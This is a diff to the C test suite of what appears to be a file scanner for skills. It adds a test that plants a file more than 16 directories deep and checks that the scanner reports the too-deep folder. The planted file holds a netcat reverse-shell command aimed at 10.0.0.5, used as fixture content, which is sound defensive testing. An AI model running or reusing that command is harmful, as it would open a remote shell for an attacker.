@@ -262,6 +262,34 @@ static void test_scan__walk(void)
 	skit_scanner_free(sc);
 }
 
+/* What the caps leave out is reported: a folder too deep to walk. */
+static void test_scan__too_deep(void)
+{
+	skit_scanner *sc = scanner();
+	const char *tmp = getenv("SKIT_TEST_DIR");
+	char dir[PATH_MAX], p[PATH_MAX + 64];
+	skit_scan_report *rep = NULL;
+	skit_error err = { 0 };
+	const skit_scan_finding *f;
+	size_t n;
+
+	n = (size_t)snprintf(dir, sizeof(dir), "%s/deep/s", tmp);
+	for (int i = 0; i < 18; i++)
+		n += (size_t)snprintf(dir + n, sizeof(dir) - n, "/d");
+	ASSERT_OK(skitx_fs_mkdir_p(dir, 0755));
+	snprintf(p, sizeof(p), "%s/x.sh", dir);
+	put(p, "nc -e /bin/sh 10.0.0.5 4444\n", 28);
+	snprintf(dir, sizeof(dir), "%s/deep/s", tmp);
+	ASSERT_OK(skit_scan_report_new(&rep, &err));
+	ASSERT_OK(skit_scan_path(sc, rep, dir, &err));
+	f = find(rep, "file/too-large");
+	ASSERT(f);
+	ASSERT_CONTAINS(f->text, "16 levels deep");
+	ASSERT_EQ(f->severity, SKIT_SCAN_MEDIUM);
+	skit_scan_report_free(rep);
+	skit_scanner_free(sc);
+}
+
 /* A setuid file in a skill is reported (HOSTILE E13). */
 static void test_scan__setuid(void)
 {
@@ -388,6 +416,7 @@ TEST_MAIN(
 	TEST(test_scan__long_line)
 	TEST(test_scan__walk)
 	TEST(test_scan__setuid)
+	TEST(test_scan__too_deep)
 	TEST(test_scan__bad_rules)
 	TEST(test_scan__malicious_fixtures_flagged)
 	TEST(test_scan__benign_fixtures_not_high))
